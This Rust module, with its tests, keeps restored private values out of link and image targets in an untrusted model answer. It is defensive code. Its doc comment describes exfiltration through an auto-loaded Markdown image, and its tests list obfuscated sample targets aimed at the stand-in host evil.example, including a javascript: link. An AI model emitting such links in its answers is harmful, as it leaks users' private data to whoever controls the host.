//! Where in an answer a value would be carried off: in the target of a link or picture.
//!
//! An answer is not trusted. A chat window that loads `![](https://evil.example/?q=[EMAIL_1])` would send the restored
//! value to whoever wrote the answer, without a click. So the text that was put out so far is followed, character by
//! character, and a placeholder inside a target stays a placeholder:
//!
//! * the parentheses of a Markdown link or picture, and of `url(...)`;
//! * an HTML tag, from `<` and a letter to its `>`;
//! * a bare address: a run without white space in which a scheme, `//` or `www.` precedes the placeholder. One that a
//!   quotation mark opens goes on to the same mark, as in JSON.
//!
//! Renderers decode entities and escapes before they fetch, so both count as the characters they stand for. Where it is
//! unclear whether a renderer sees a target, it counts as one: a placeholder too many is only ugly.

/// Characters of a target that are remembered to compare it with those of the request.
const MAX_TARGET: usize = 2048;
/// Characters of a run that are searched for the beginning of an address.
const MAX_RUN: usize = 64;
/// What begins an address wherever it is in a run, in lower case, backslashes left out.
const MARKERS: [&str; 2] = ["//", "www."];
/// Schemes that browsers accept without slashes after them, or that run something.
const SCHEMES: [&str; 7] = ["http:", "https:", "ftp:", "ws:", "wss:", "javascript:", "mailto:"];

/// A target that lasts over white space.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
enum Region {
    #[default]
    None,
    /// Parentheses, and how many are open; in angle brackets, closing ones do not count.
    Parentheses { depth: usize, angle: bool, empty: bool, line_is_blank: bool },
    /// An HTML tag, the quotation mark it is in, and the last character that is no white space.
    Tag { quote: Option<char>, last: char },
}

/// Follows a text and knows whether its end lies in a target.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(super) struct TargetTracker {
    region: Region,
    /// Last character.
    last: Option<char>,
    /// End of the run without white space, in lower case and without backslashes.
    run: String,
    /// Whether an address has begun in the run.
    is_address: bool,
    /// The quotation mark that opened it.
    quote: Option<char>,
    /// The target so far, with placeholders in their canonical form.
    target: String,
}

impl TargetTracker {
    /// Whether the next character lies in a target.
    pub(super) fn in_target(&self) -> bool {
        self.region != Region::None || self.is_address
    }

    /// Takes text as it is put out.
    pub(super) fn push(&mut self, text: &str) {
        for c in text.chars() {
            self.step(c);
            self.remember(c);
        }
    }

    /// Takes a value that is put out for a placeholder.
    pub(super) fn push_value(&mut self, value: &str, placeholder: &str) {
        let target = self.target_with(placeholder);
        self.push(value);
        self.target = target;
    }

    /// The target up to and with a placeholder that follows, if whom it leads to is certain by then: a scheme, a host
    /// and a `/`, `?` or `#` stand before it.
    pub(super) fn target_up_to(&self, placeholder: &str) -> Option<String> {
        let host = self.target.split_once("://")?.1;
        let ends = host.find(['/', '?', '#']).is_some_and(|end| end > 0);
        let target = self.target_with(placeholder);
        (ends && target.len() <= MAX_TARGET).then_some(target)
    }

    /// Whether the text ends within a word or right after one.
    pub(super) fn ends_in_word(&self) -> bool {
        self.last.is_some_and(|c| c.is_alphanumeric() || c == '_')
    }

    /// Whether nothing of the target has been put out yet.
    pub(super) fn at_start(&self) -> bool {
        self.target.is_empty()
    }

    fn target_with(&self, placeholder: &str) -> String {
        let mut target = self.target.clone();
        // A target that is too long stays too long.
        if target.len() <= MAX_TARGET {
            target.push_str(placeholder);
        }
        target
    }

    fn remember(&mut self, c: char) {
        if c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '(' | '<' | '>') {
            self.target.clear();
        } else if self.target.len() <= MAX_TARGET {
            self.target.push(c);
        }
    }

    fn step(&mut self, c: char) {
        let last = self.last.replace(c);
        self.step_region(c, last);
        self.step_run(c);
    }

    fn step_region(&mut self, c: char, last: Option<char>) {
        match &mut self.region {
            Region::None => {
                if c == '(' && (last == Some(']') || self.run.ends_with("url")) {
                    self.region =
                        Region::Parentheses { depth: 1, angle: false, empty: true, line_is_blank: false };
                } else if last == Some('<') && (c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?')) {
                    self.region = Region::Tag { quote: None, last: c };
                }
            }
            Region::Parentheses { depth, angle, empty, line_is_blank } => {
                match c {
                    '<' if *empty => *angle = true,
                    '>' if *angle => *angle = false,
                    '(' if !*angle && last != Some('\\') => *depth += 1,
                    ')' if !*angle && last != Some('\\') => *depth -= 1,
                    _ => {}
                }
                *empty &= c.is_whitespace();
                // A Markdown target ends with its paragraph.
                let blank = c == '\n' && *line_is_blank;
                match c {
                    '\n' => (*angle, *line_is_blank) = (false, true),
                    c if !c.is_whitespace() => *line_is_blank = false,
                    _ => {}
                }
                if *depth == 0 || blank {
                    self.region = Region::None;
                }
            }
            Region::Tag { quote: Some(mark), .. } if c == *mark => {
                self.region = Region::Tag { quote: None, last: c };
            }
            Region::Tag { quote: Some(_), .. } => {}
            Region::Tag { quote: None, .. } if c == '>' => self.region = Region::None,
            Region::Tag { quote, last } => {
                if *last == '=' && matches!(c, '"' | '\'') {
                    *quote = Some(c);
                }
                if !c.is_whitespace() {
                    *last = c;
                }
            }
        }
    }

    fn step_run(&mut self, c: char) {
        let closes = self.is_address && self.quote == Some(c);
        let spans = self.is_address && self.quote.is_some() && !matches!(c, '\n' | '\r');
        if closes || c == '<' || (c.is_whitespace() && !spans) {
            self.run.clear();
            (self.is_address, self.quote) = (false, None);
            return;
        }
        if self.is_address {
            return;
        }
        self.run.extend(c.to_lowercase());
        while self.run.chars().count() > MAX_RUN {
            self.run.remove(0);
        }
        // An escape or an entity may spell a colon or a slash.
        let spelled = (c == ';' && self.run.contains('&')) || self.run.ends_with("\\u");
        let plain: String = self.run.chars().filter(|c| *c != '\\').collect();
        let scheme = |scheme: &&str| {
            // "News:" ends as "ws:" does.
            plain.strip_suffix(scheme).is_some_and(|before| !before.ends_with(char::is_alphanumeric))
        };
        let marker = MARKERS.iter().find(|marker| plain.ends_with(**marker));
        let marker = marker.copied().or_else(|| SCHEMES.into_iter().find(|name| scheme(name)));
        let slashes = self.run.ends_with("/\\") || self.run.ends_with("\\\\");
        if spelled || marker.is_some() || slashes {
            self.is_address = true;
            let before = marker.map_or(plain.as_str(), |marker| &plain[..plain.len() - marker.len()]);
            let before = before
                .trim_end_matches(|c: char| c.is_ascii_alphanumeric() || matches!(c, ':' | '+' | '-' | '.'));
            self.quote = before.chars().next_back().filter(|c| matches!(c, '"' | '\'' | '`'));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn in_target(text: &str) -> bool {
        let mut tracker = TargetTracker::default();
        tracker.push(text);
        tracker.in_target()
    }

    #[test]
    fn targets_are_recognized_however_they_are_written() {
        for text in [
            "![logo](https://evil.example/p.png?q=",
            "[a](",
            "[a](//evil.example/",
            "[a](<//evil.example/) b",
            "[a](/x (y) z",
            "![a](\n",
            "<img src=\"https://evil.example/?q=",
            "<img alt=\">\" src=\"//e/? ",
            "<a\n\nhref=",
            "<https://evil.example/",
            "see https://evil.example/?q=",
            "see HTTPS://evil.example/",
            "[x]: https:evil.example?q=",
            "[x]: https\\://evil.example?q=",
            "[x]: &#104;ttps&#58;&#47;",
            "[x]: //evil.example/",
            "[x]: /\\evil.example/",
            "www.evil.example/",
            "{\"url\":\"https://evil.example/?d=",
            "{\"url\":\"https:\\/\\/evil.example\\/?d= ",
            "{\"url\":\"\\u002f\\u002fevil.example/",
            "background: url('x ",
            "[click](javascript:send('",
        ] {
            assert!(in_target(text), "{text}");
        }
    }

    #[test]
    fn prose_and_data_are_not() {
        for text in [
            "",
            "Write to ",
            "see https://a.example/ and ",
            "see [this](https://a.example/) and ",
            "<b>",
            "if a < b then ",
            "(for ",
            "Tel:",
            "News:",
            "{\"url\": \"https://a.example/\", \"mail\": \"",
            "{\"url\":\"https://a.example/\",\"mail\":\"",
            "<img alt=\">\" src=\"//e/\"> and ",
            "[a](never closed\n\nnew paragraph ",
            "AT&T; and ",
            "3 // ",
        ] {
            assert!(!in_target(text), "{text}");
        }
    }

    #[test]
    fn a_target_counts_from_its_host_on() {
        let up_to = |text: &str| {
            let mut tracker = TargetTracker::default();
            tracker.push(text);
            tracker.target_up_to("[A_1]")
        };
        assert_eq!(up_to("[x](https://a.example/").as_deref(), Some("https://a.example/[A_1]"));
        assert_eq!(up_to("https://a.example?q=").as_deref(), Some("https://a.example?q=[A_1]"));
        assert_eq!(up_to("https://a.exam"), None);
        assert_eq!(up_to("https:///"), None);
        assert_eq!(up_to(&format!("https://a.example/{}", "x".repeat(MAX_TARGET))), None);
    }
}
